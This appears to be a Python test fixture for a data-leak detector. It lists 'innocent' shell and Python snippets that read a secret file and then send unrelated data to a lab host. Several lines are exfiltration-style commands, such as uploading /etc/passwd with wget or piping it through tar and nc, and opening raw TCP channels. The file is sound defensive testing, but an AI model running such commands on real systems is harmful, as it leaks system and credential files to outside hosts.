# SPDX-License-Identifier: GPL-3.0-or-later
"""Innocents: they read the labelled file and send data that does not come from it."""

from tests.leaks.catalogue_languages import PERL, PERL_CONNECTION, TLS_SERVER
from tests.leaks.row import PRELUDE, Innocent, python, snippet

# A program that is missing or fails ends the case before anything is sent.
STRICT = "set -eo pipefail; "
TELL = "; echo constant | nc remote 9"
# The tree is made before anything is read, so that its names and sizes are public.
TREE = "mkdir -p tree/a/b; echo public > tree/one; echo public > tree/a/two; cp secret tree/a/b/three; "


def told(**scripts):
    """Name -> script, with a fixed message after it."""
    return {name.replace("_", "-"): STRICT + script + TELL for name, script in scripts.items()}


def local():
    """The result stays here: in a file, in a variable, nowhere."""
    return told(
        cat="cat secret > /dev/null",
        copy="cp secret copy",
        copy_tree=TREE + "cp -a tree other",
        moved="mv secret other; cat other > /dev/null",
        checksums="sha256sum secret > sums; sha256sum --quiet -c sums",
        md5="md5sum secret > sums",
        digest="openssl dgst -sha256 secret > sums",
        cksum="cksum secret > /dev/null",
        count_to_file="wc secret > counted",
        grep_to_file="grep Sphinx secret > found",
        # Each line has a carriage return more. The copy's content is not asked for: its shadow may not be made yet.
        on_terminal="sleep 1 | script -eqc 'grep . secret' /dev/null > shown; [ $(stat -c %s shown) -gt $(stat -c %s secret) ]",
        grep_quiet="grep -q Sphinx secret",
        grep_tree=TREE + "grep -r Sphinx tree > found",
        sorted="sort secret > sorted",
        unique="sort secret | uniq -c > counted",
        joined="sort secret > a; join -t, a a > joined",
        pasted="paste secret secret > pasted",
        cut="cut -d, -f2 secret > field",
        compared="cmp secret /run/plain",
        difference="cp secret copy; sed -i s/anna/hans/ copy; diff secret copy > changes || true",
        three_way="cp secret a; cp secret b; diff3 a secret b > changes || true",
        patched="diff -u secret /dev/null > change || true; patch -s -f -o out secret change || true",
        # tar does not read what goes to /dev/null.
        tar_to_nowhere="tar -c secret | cat > /dev/null",
        tar="tar -czf archive.tar.gz secret; tar -tzf archive.tar.gz > listed",
        tar_tree=TREE + "tar -cf archive.tar tree; mkdir out; tar -xf archive.tar -C out",
        cpio=TREE + "find tree | cpio -o --quiet > archive.cpio",
        gzip="gzip -c secret > copy.gz; gzip -t copy.gz; zcat copy.gz > /dev/null",
        xz="xz -k secret; xz -dc secret.xz > /dev/null",
        bzip2="bzip2 -k secret; bzip2 -t secret.bz2",
        zstd="zstd -q secret; zstd -qt secret.zst",
        zip="zip -q archive.zip secret; unzip -qt archive.zip",
        encrypted="openssl enc -aes-256-cbc -pbkdf2 -iter 100 -pass pass:x -in secret -out box",
        rsync=TREE + "rsync -a tree/ other",
        split="split -b 9 secret part.; cat part.* > again; cmp secret again",
        sed_in_place="sed -i s/anna/hans/ secret",
        awk_to_file="awk -F, '{ print $2 > \"fields\" }' secret",
        gawk="gawk -F, '{ n[$1]++ } END { for (k in n) print k, n[k] }' secret > counted",
        ed="printf '1s/^/x/\\nw\\nq\\n' | ed -s secret",
        vim="vim.tiny -es -u NONE -c '%s/anna/hans/' -c wq secret",
        vim_looks="vim.tiny -es -u NONE -c q secret",
        less="less secret > /dev/null",
        hexdump="hexdump -C secret > dump; xxd secret > dump2; od secret > dump3",
        iconv="iconv -f utf-8 -t ucs-4 secret > copy",
        m4="echo 'include(secret)' | m4 > out",
        bc="grep -o '[0-9]*$' secret | paste -sd+ | bc > sum",
        sqlite="sqlite3 base '.mode csv' '.import secret t' 'select count(*) from t' > counted",
        sqlite_own="cat secret > /dev/null; sqlite3 own 'create table t (x); insert into t values (1); select * from t' > /dev/null",
        lua="lua5.4 -e 'n = 0; for l in io.lines(\"secret\") do n = n + #l end'",
        perl="LC_ALL=C perl -ne '$n{$_}++; END { open F, \">counted\"; print F scalar(keys %n) }' secret",
        bash_reads="while read -r line; do n=$((n + ${#line})); done < secret",
        variable="x=$(< secret); y=${x//anna/hans}; [[ $y == *hans* ]] || true",
        make="printf 'copy: secret\\n\\tcp secret copy\\n' > Makefile; make -s",
        logger="logger -s \"$(head -n 1 secret)\" 2> log",
        shred="cp secret copy; shred -u copy",
    )


def listed():
    """Programs that list files, or read the labelled one among others."""
    return told(
        listing="ls -l secret > /dev/null",
        status="stat secret > /dev/null; file=$(stat -c %n secret)",
        found=TREE + "find tree -type f -exec cat {} + > /dev/null",
        found_by_xargs=TREE + "find tree -type f -print0 | xargs -0 sha256sum > sums",
        usage=TREE + "du -s tree > /dev/null",
        many_children="for ((i = 0; i < 15; i++)); do head -c $i secret > part.$i; done; wc -c part.* > /dev/null",
        functions="f() { local x; read -r x < secret; return 3; }; f || [[ $? == 3 ]]",
        parallel="for i in 1 2 3 4; do sha256sum secret > sum.$i & done; wait",
        pipeline="cat secret | tr a-z A-Z | sort | uniq -c | sort -rn | head -n 2 > out",
        fifo="mkfifo way; cat way > copy & cat secret > way; wait",
        coprocess="coproc cat secret; cat <&${COPROC[0]} > copy; wait",
        traps="trap 'n=1' USR1; read -r x < secret; kill -USR1 $$; [[ $n == 1 ]]",
        timeout="timeout 5 cat secret > /dev/null",
        nice="nice cat secret > /dev/null",
        session="setsid cat secret > copy; until [[ -s copy ]]; do sleep 0.1; done",
        as_user="chmod 644 secret; chmod 755 .; setpriv --reuid 1000 --clear-groups cat secret > /dev/null",
    )


def reports():
    """Name -> (script, bytes that arrive): public data, sent after the labelled file was read."""
    return {
        "scanner-fetches": ("grep -l MALWARE -r . ; wget -q -T 5 -O - http://10.77.0.2/definitions; true", b"GET /definitions"),
        "scanner-reports": (TREE + "n=0; find tree -type f > names; while read -r f; do grep -q MALWARE $f && n=$((n + 1)); done < names; "
                            "echo infected $n | nc remote 9", b"infected 0"),
        "backup-reports": (TREE + "tar -cf archive.tar tree; echo files $(find tree -type f | wc -l) | nc remote 9", b"files 3"),
        "archive-size": ("tar -cf archive.tar secret; stat -c 'size %s' archive.tar | nc remote 9", b"size 10240"),
        "lines": ("wc -l < secret | nc remote 9", b"3"),
        "names": (TREE + "cat tree/a/b/three > /dev/null; ls tree | nc remote 9", b"one"),
        "long-listing": ("cat secret > /dev/null; ls -l | nc remote 9", b"secret"),
        "modes": ("cat secret > /dev/null; stat -c %a:%U secret | nc remote 9", b":root"),
        "constant-count": ("grep -c Zebra secret | nc remote 9", b"0"),
        "emptied": ("x=$(< secret); x=; echo \"[$x]\" | nc remote 9", b"[]"),
        "other-file": ("cat secret > /dev/null; cat /run/plain | nc remote 9", b"Sphinx77Quartz01"),
        "other-file-uploaded": ("sha256sum secret; wget -q -T 5 -O - --post-file /etc/passwd http://10.77.0.2/up", b"anna:x:1000"),
        "other-files-packed": ("cat secret > /dev/null; tar -c /etc/passwd 2> /dev/null | nc remote 9", b"anna:x:1000"),
        "other-column": ("awk '{ n++ } END { print \"records\", n }' secret | nc remote 9", b"records 3"),
        "version": ("openssl dgst -sha256 secret > sums; openssl version | nc remote 9", b"OpenSSL"),
        "date": ("cat secret > /dev/null; date +%s | nc remote 9", b"1"),
        "identity": ("read -r x < secret; echo $$ $PPID $(id -u) $(uname -s) | nc remote 9", b"Linux"),
        "random": ("read -r x < secret; echo got $(head -c 8 /dev/urandom | xxd -p) $RANDOM | nc remote 9", b"got "),
        "processes": ("cat secret > /dev/null; ps | nc remote 9", b"PID"),
        "mounts": ("read -r x < secret; cat /proc/self/mounts | nc remote 9", b"/mnt"),
        "tls": (TLS_SERVER + "sha256sum secret > sums; echo constant | "
                "openssl s_client -quiet -no_ign_eof -connect 10.77.0.2:443 2> /dev/null; wait", b"constant"),
        "http-get": ("sha256sum secret > sums; wget -q -T 5 -O - http://10.77.0.2/version", b"GET /version"),
        "http-form": ("x=$(< secret); wget -q -T 5 -O - --post-data user=anna http://10.77.0.2/login", b"user=anna"),
        "datagram": ("x=$(< secret); echo constant > /dev/udp/remote/9", b"constant"),
        "name-lookup": ("x=$(< secret); timeout 1 nslookup update.example.org 10.77.0.2; true", b"update"),
        "ipv6": ("cat secret > /dev/null; echo constant | nc remote6 9", b"constant"),
        "gawk-network": ("gawk 'BEGIN { getline < \"secret\"; print \"constant\" |& \"/inet/tcp/0/10.77.0.2/9\" }'", b"constant"),
        "awk-constant": ("awk 'END { print \"done\" }' secret | nc remote 9", b"done"),
        "sed-replaced": ("sed 's/.*/line/' secret | nc remote 9", b"line\nline\nline"),
        "masked": ("tr -c '\\n' x < secret | nc remote 9", b"xxxxxxxxxxx\n"),
        "progress": ("for i in 1 2 3; do cat secret > /dev/null; echo pass $i; done | nc remote 9", b"pass 3"),
        "perl-lines": (PERL % f'open $f, "secret"; @l = <$f>; {PERL_CONNECTION} print $s scalar(@l), " lines";', b"3 lines"),
        "lua-lines": ("lua5.4 -e 'n = 0; for l in io.lines(\"secret\") do n = n + 1 end; print(n .. \" lines\")' | nc remote 9",
                      b"3 lines"),
    }


POOL = "import time\nfrom concurrent.futures import ThreadPoolExecutor\n"


def in_python():
    """Name -> code, which ends by sending."""
    return {
        "python": "read()\nsend(b'constant')",
        "python-imports": "import csv, hashlib, json, logging, re, tempfile\nhashlib.sha256(read()).hexdigest()\nsend(b'constant')",
        "python-hash-order": "words = set(read().split())\nsend(b'constant %d' % len(words))",
        "python-lines": "send(b'constant %d' % sum(1 for line in open('secret')))",
        "python-garbage": "import gc\nx = [bytearray(read()) for _ in range(500)]\ndel x\ngc.collect()\nsend(b'constant')",
        "python-exception": "try:\n    int(read())\nexcept ValueError:\n    send(b'constant')",
        "python-process": "import subprocess\nsubprocess.run(['sha256sum', 'secret'], stdout=subprocess.PIPE)\nsend(b'constant')",
        "python-fork": "import os\nread()\nif not os.fork():\n    send(b'constant')\n    os._exit(0)\nos.wait()",
        "python-signal": "import signal, os\nread()\nsignal.signal(signal.SIGUSR1, lambda *_: send(b'constant'))\n"
                         "os.kill(os.getpid(), signal.SIGUSR1)",
        "python-time": "import time\nread()\nt = time.time()\ntime.sleep(0.05)\nsend(b'constant %f' % (time.time() - t))",
        "python-random": "import random, uuid\nread()\nsend(b'constant %d %s' % (random.randrange(10**9), str(uuid.uuid4()).encode()))",
        "python-zip": "import zipfile\nwith zipfile.ZipFile('copy.zip', 'w') as z:\n    z.write('secret')\nsend(b'constant')",
        "python-sqlite": "import sqlite3\nb = sqlite3.connect('base')\nb.execute('create table t (x)')\n"
                         "b.execute('insert into t values (?)', (read(),))\nb.commit()\nsend(b'constant')",
        "python-temporary": "import tempfile\nwith tempfile.NamedTemporaryFile(dir='.') as f:\n    f.write(read())\nsend(b'constant')",
        "python-loop": "import asyncio\nasync def main():\n    read()\n    await asyncio.sleep(0.01)\n"
                       "asyncio.run(main())\nsend(b'constant')",
        "python-thread": "import threading\nthread = threading.Thread(target=read)\nthread.start()\nthread.join()\nsend(b'constant')",
        "python-pool": f"{POOL}with ThreadPoolExecutor(4) as pool:\n    list(pool.map(lambda i: read(), range(20)))\nsend(b'constant')",
        # Chance decides which thread does which part, but the same in both halves.
        "python-pool-order": f"{POOL}import threading\norder = []\n"
                             "def work(i):\n    order.append(threading.current_thread().name[-1])\n    time.sleep(0)\n"
                             "pool = ThreadPoolExecutor(4)\nlist(pool.map(work, range(20)))\nread()\nlist(pool.map(work, range(40)))\n"
                             "send(b'constant ' + ''.join(order).encode())",
        "python-walk": "import os\nread()\nsend(b'constant ' + ' '.join(sorted(os.listdir('/usr/bin'))[:5]).encode())",
        "python-http": "import http.client\nread()\nc = http.client.HTTPConnection('10.77.0.2')\nc.request('GET', '/constant')\n"
                       "c.getresponse().read()",
        "python-mapped": "import mmap\nf = open('secret', 'rb')\nm = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)\n"
                         "m.find(b'Quartz')\nsend(b'constant')",
        "python-random-seeded-by-nothing": "import secrets\nread()\nsend(b'constant ' + secrets.token_hex(8).encode())",
    }


# Reasons why the two runs diverge: the property of the scrubbed copy, and its effect.
FIELDS = "no commas: other fields, so other pages of the database"
MATCHES = "no matches: it goes on where the other ends, or shows something else"
POSITION = "other lines: what was read too far is given back by another lseek"
LENGTH = "no matches, so nothing comes through the pipe: how much does is derived"
FORMAT = "no archive, or no text that packs as well: the program says so and ends, or asks for memory elsewhere"
DIFFERENCE = "other sums, other differences"
DIVERGING = {
    "sqlite": FIELDS, "pipeline": POSITION, "bc": LENGTH,
    **dict.fromkeys(("grep-quiet", "vim"), MATCHES),
    **dict.fromkeys(("tar", "tar-tree", "gzip", "xz", "bzip2", "zstd", "zip"), FORMAT),
    **dict.fromkeys(("checksums", "compared", "patched"), DIFFERENCE),
}
# They look at names and sizes only.
LOOKING = {"listing", "status"}
INNOCENTS = [Innocent(name, script, diverges=DIVERGING.get(name, ""), reads=name not in LOOKING) for name, script in {**local(), **listed()}.items()]
INNOCENTS += [Innocent(name, script, message=message) for name, (script, message) in reports().items()]
INNOCENTS += [Innocent(name, f"way {name} secret") for name in ("count-in-shared-memory", "display-in-shared-memory")]
INNOCENTS += [Innocent(name, snippet(code)) for name, code in in_python().items()]
INNOCENTS += [
    Innocent("python-tls", TLS_SERVER + python(PRELUDE + """
import ssl
read()
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
with context.wrap_socket(socket.create_connection(("10.77.0.2", 443))) as connection:
    connection.sendall(b"constant")
""") + "\nwait"),
]
# Known false alarms, for the next person who works on them: somebody is asked about a message that does not come from the file.
FALSE_ALARMS = [
    Innocent("sqlite-rows", "sqlite3 base '.mode csv' '.import secret t' 'select count(*) || \" rows\" from t' | nc remote 9",
             message=b"2 rows", diverges=FIELDS),
    Innocent("tightlip-figure-two", "way tightlip-figure-two secret", message=b"b", diverges="a signal comes at another instruction"),
]
assert len({row.name for row in INNOCENTS + FALSE_ALARMS}) == len(INNOCENTS + FALSE_ALARMS)
